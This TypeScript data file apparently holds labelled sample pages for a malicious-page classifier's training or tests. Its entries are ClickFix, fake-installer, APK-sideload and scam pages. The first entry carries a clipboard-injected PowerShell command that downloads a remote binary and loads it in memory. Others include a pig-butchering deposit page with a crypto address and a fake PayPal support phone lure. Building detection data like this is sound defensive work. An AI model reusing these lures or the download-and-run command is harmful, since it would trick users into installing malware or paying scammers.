import type { Entry } from '../entry.js';

/** More ClickFix, malware delivery and scam pages (families that were thin in one split). */
export const entries: Entry[] = [
  {
    id: 'clickfix-fake-404-fix',
    label: 'clickfix',
    kind: 'clickfix',
    url: 'https://www.coastal-kayak-tours.com/booking/',
    body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Booking | Coastal Kayak Tours</title></head>
<body><div style="position:fixed;inset:0;background:#fafafa;font-family:Arial;padding:80px"><h2>Error loading booking widget (0xC0000022)</h2><p>Your browser blocked a component. Run the repair tool to continue:</p>
<p><b>1.</b> Press <b>Win + R</b> &nbsp; <b>2.</b> Press <b>Ctrl + V</b> &nbsp; <b>3.</b> Press <b>Enter</b></p><button onclick="fix()">Copy repair command</button></div>
<script>function fix(){var c='conhost.exe --headless powershell -ep bypass -w h -c "$b=(New-Object Net.WebClient).DownloadData(\\'https://kayak-cdn.top/r.bin\\');[Reflection.Assembly]::Load($b)"';navigator.clipboard.writeText(c);}</script>
<main><h1>Book a tour</h1></main></body></html>`,
  },
  {
    id: 'malware-apk-sideload',
    label: 'malware',
    kind: 'malware-download',
    url: 'https://bank-secure-app-update.com/android/',
    body: `<!DOCTYPE html><html><head><meta charset="utf-8"><meta name="viewport" content="width=device-width"><title>Security App Update</title></head>
<body style="font-family:Roboto,Arial;padding:20px"><h2>🔒 Install the new security app</h2><p>Your bank requires the new Security Shield app to continue using mobile banking. Google Play is not supported for this update.</p>
<ol><li>Tap <b>Download APK</b></li><li>Allow "Install unknown apps" for your browser</li><li>Open SecurityShield.apk and grant Accessibility permission</li></ol><a href="/android/SecurityShield_v2.4.apk" style="display:block;background:#0a7;color:#fff;padding:14px;text-align:center;text-decoration:none">Download APK</a></body></html>`,
  },
  {
    id: 'malware-msix-fake-installer',
    label: 'malware',
    kind: 'malware-download',
    url: 'https://notion-desktop-download.app/windows',
    body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Download Notion for Windows</title></head>
<body style="font-family:Inter,Arial;text-align:center;padding-top:80px"><h1>Notion for Windows</h1><p>Your download should start automatically.</p><a id="d" href="https://cdn-notion-desktop.download/NotionSetup-4.2.1.msix">Click here if it didn't</a>
<script>setTimeout(function(){location.href=document.getElementById('d').href;},1200);</script></body></html>`,
  },
  {
    id: 'scam-romance-crypto-pig-butchering',
    label: 'scam',
    kind: 'investment',
    url: 'https://www.gold-ex-trading.vip/h5/#/deposit',
    body: `<!DOCTYPE html><html><head><meta charset="utf-8"><meta name="viewport" content="width=device-width"><title>GoldEx</title></head>
<body style="font-family:Arial;background:#111;color:#fc0;padding:20px"><h2>GoldEx Deposit</h2><p>VIP3 account · Balance $48,210.55 · Profit today +$3,102.00</p><p>To withdraw, your account must pay the 20% personal income tax ($9,642.11) in USDT first.</p>
<p>USDT (TRC20) deposit address:</p><p style="background:#222;padding:8px">TQn9Y2khEsLJW1ChVWFMSMeRDow5KcbLSE</p><p>Contact your account manager on Telegram: @goldex_service_amy</p></body></html>`,
  },
  {
    id: 'scam-fake-refund-call',
    label: 'scam',
    kind: 'tech-support',
    url: 'https://paypal-invoice-dispute.support-desk.live/',
    body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>PayPal Invoice #PP-8812</title></head>
<body style="font-family:Helvetica"><div style="width:560px;margin:40px auto;border:1px solid #ddd;padding:24px"><h2>PayPal</h2><p>Invoice for <b>Bitcoin (BTC) purchase — $899.99</b> has been approved and will be charged to your account within 24 hours.</p>
<p>If you did not authorise this transaction, call PayPal Billing Support immediately: <b>+1 (808) 555-0199</b></p><p>Order ID: 8812-AX-2210 · Date: Nov 25, 2026</p></div></body></html>`,
  },
  {
    id: 'scam-fake-antivirus-renewal',
    label: 'scam',
    kind: 'tech-support',
    url: 'https://mcafee-renewal-center.net/expired',
    body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>McAfee Total Protection - Subscription Expired</title></head>
<body style="font-family:Arial;background:#c01818;color:#fff;text-align:center;padding-top:60px"><h1>Your McAfee subscription has expired!</h1><p>Your PC is unprotected and exposed to viruses and other malware. 4 threats detected.</p><a href="https://mcafee-renewal-center.net/go?offer=75off&amp;aff=8812" style="background:#fff;color:#c01818;padding:14px 30px;text-decoration:none;font-weight:bold">Renew now — 75% OFF</a>
<p style="font-size:11px">This site is operated by an independent affiliate.</p></body></html>`,
  },];
